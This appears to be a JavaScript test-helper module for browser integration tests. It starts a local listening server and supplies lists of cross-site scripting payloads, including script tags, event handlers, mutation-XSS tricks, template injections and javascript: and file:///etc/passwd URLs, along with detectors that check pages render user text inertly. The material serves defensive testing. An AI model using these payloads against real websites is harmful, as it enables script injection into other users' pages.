// Somebody who wants a page to run, load or send something by what they write: their words, the port that they listen at,
// and every sign on a page that they got their way.
import { createServer } from 'node:http';

import { cleanup } from '../integration/harness.mjs';

/** Listens at a port of its own. Gives `{ url, hits }`: every request or WebSocket that came, as "METHOD path". */
export async function startAttacker(t) {
  const hits = [];
  const server = createServer((request, response) => {
    hits.push(`${request.method} ${request.url}`);
    response.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/javascript' });
    response.end('window.taken = "by a file";');
  });
  server.on('upgrade', (request, socket) => (hits.push(`WebSocket ${request.url}`), socket.destroy()));
  await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
  cleanup(t, () => new Promise((resolve) => (server.closeAllConnections(), server.close(resolve))));
  return { url: `http://127.0.0.1:${server.address().port}`, hits };
}

const TAKE = "window.taken='in place'";

/** Short enough for a name: at most 200 characters each. */
export function hostileNames(url) {
  return [
    `<img src="${url}/name" onerror="${TAKE}">Ana`,
    `"><svg onload="${TAKE}">Ben`,
    `<script>${TAKE}</script>Eva`,
    `Dan' onmouseover='${TAKE}' x='`,
    `{@html "<img src=x onerror=${TAKE}>"}`,
  ];
}

/**
 * Texts, each of another kind. Those of `inPlace` would run or load something where they stand; those of `elsewhere` would
 * lead away, wait for a click, or count on somebody to read them as HTML, Markdown, a template or JavaScript.
 */
export function hostileTexts(url) {
  const inPlace = [
    `<script>${TAKE};fetch('${url}/script')</script>`,
    `<script src="${url}/file.js"></script>`,
    `<img src="${url}/img" onerror="${TAKE}" onload="${TAKE}">`,
    `<img srcset="${url}/srcset 1x"><picture><source srcset="${url}/source"><img></picture>`,
    `<svg onload="${TAKE}"><image href="${url}/svg"/><script>${TAKE}</script></svg>`,
    `<iframe src="${url}/frame"></iframe><iframe srcdoc="<script>parent.${TAKE}</script>"></iframe>`,
    `<object data="${url}/object"></object><embed src="${url}/embed">`,
    `<input autofocus onfocus="${TAKE}"><details open ontoggle="${TAKE}"><summary>x</summary></details>`,
    `<video autoplay src="${url}/video" onloadstart="${TAKE}"></video><audio src="${url}/audio" autoplay></audio>`,
    `<style>@import "${url}/style"; * { background: url(${url}/background) !important }</style>`,
    `<link rel="stylesheet" href="${url}/link"><link rel="preload" as="image" href="${url}/preload">`,
    `<p style="background:url(${url}/inline);position:fixed;inset:0" onmouseover="${TAKE}">everywhere</p>`,
    `</p></article></main></title></textarea></style></script><script>${TAKE}</script>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${TAKE}&gt;">`,
    `<template><script>${TAKE}</script></template><noscript><p title="</noscript><img src=x onerror=${TAKE}>">`,
    `"'><a autofocus tabindex=1 onfocus=${TAKE} onblur=${TAKE}>x</a>`,
  ];
  const elsewhere = [
    `<meta http-equiv="refresh" content="0;url=${url}/refresh">`,
    `<base href="${url}/base/"><form action="${url}/form"><button>Vote</button></form>`,
    `<a href="javascript:${TAKE}">x</a> javascript:${TAKE} data:text/html,<script>${TAKE}</script>`,
    `&lt;img src=x onerror=${TAKE}&gt; \\u003cimg src=x onerror=${TAKE}\\u003e %3Cscript%3E`,
    `![x](${url}/markdown) [x](javascript:${TAKE}) <${url}/auto> ${url}/plain`,
    `{${TAKE}} {{constructor.constructor("${TAKE}")()}} \${${TAKE}} <%= ${TAKE} %> {{{text}}} {{>end}}`,
    `'-${TAKE}-' ");${TAKE};// */${TAKE}/* ]]>-->`,
  ];
  return { inPlace, elsewhere };
}

/** Sources that are no addresses to go to; the server takes none of them. */
export const BAD_SOURCES = [
  'javascript:window.taken=1', 'JAVASCRIPT:window.taken=1', 'java\nscript:window.taken=1', ' javascript:window.taken=1', '\u0001javascript:alert(1)',
  'data:text/html,<script>window.taken=1</script>', 'vbscript:x', 'blob:http://x/y', 'file:///etc/passwd', '//example.org', 'https:example.org',
  'https://example.org/"onmouseover="window.taken=1', 'https://example.org/<script>', 'https://un.org@example.org', 'https://un.org\\@example.org',
  'https://example.org/\u202Egpj.exe',
];

/** What is on the page that words alone cannot bring there: elements, handlers, addresses. `own` are known hosts. */
const findIntruders = (own) => {
  const faults = [];
  const kinds = 'iframe, frame, object, embed, img, picture, video, audio, math, template, base, form[action], [srcdoc], [style], #page script, #page link, #page meta, #page style';
  for (const one of document.querySelectorAll(kinds)) faults.push(one.outerHTML.slice(0, 120));
  for (const one of document.querySelectorAll('*')) {
    for (const { name, value } of one.attributes) {
      if (name.startsWith('on')) faults.push(`${one.tagName} ${name}`);
      if (!['href', 'src', 'action', 'formaction', 'xlink:href'].includes(name)) continue;
      const { protocol, host } = new URL(value, document.baseURI);
      // The page's own: what it gives to keep, which is named for the disk and never opened.
      const kept = one.hasAttribute('download') && (protocol === 'blob:' || value.startsWith('data:application/json,'));
      const known = kept || (/^(https?|file):$/.test(protocol) && own.includes(host));
      if (!known) faults.push(`${one.tagName} ${name}=${value}`);
    }
  }
  return faults;
};

/**
 * Watches a page from before it loads. Gives `signs()`: everything that shows that somebody's words did something, as
 * sentences; none on a page that shows words as words. `hosts` are those that links may lead to.
 */
export async function watch(page, attacker, hosts) {
  const seen = [];
  page.on('dialog', (dialog) => (seen.push(`a dialog: ${dialog.message()}`), dialog.dismiss()));
  page.on('popup', (popup) => seen.push(`a window: ${popup.url()}`));
  page.on('request', (request) => {
    const { host, protocol } = new URL(request.url());
    if (protocol !== 'blob:' && protocol !== 'data:' && !hosts.slice(0, 1).includes(host)) seen.push(`a request: ${request.url()}`);
  });
  page.on('pageerror', (error) => seen.push(`an error: ${error.message}`));
  await page.addInitScript(() => {
    window.refused = [];
    document.addEventListener('securitypolicyviolation', (event) => window.refused.push(`${event.effectiveDirective} ${event.blockedURI}`));
  });
  const signs = async () => {
    const taken = await page.evaluate(() => window.taken);
    const refused = await page.evaluate(() => window.refused);
    const intruders = await page.evaluate(findIntruders, hosts);
    return [
      ...(taken === undefined ? [] : [`it ran: ${taken}`]),
      ...refused.map((each) => `it was tried and refused: ${each}`),
      ...intruders.map((each) => `it stands there: ${each}`),
      ...attacker.hits.map((each) => `it was asked for: ${each}`),
      ...seen,
    ];
  };
  return { signs };
}

/** Does what a visitor might: comes near everything, and goes through it by keyboard. */
export async function rummage(page) {
  for (const one of await page.locator('.text, .who, .by, bdi, .reason').all()) if (await one.isVisible()) await one.hover({ force: true });
  for (let i = 0; i < 40; i += 1) await page.keyboard.press('Tab');
}
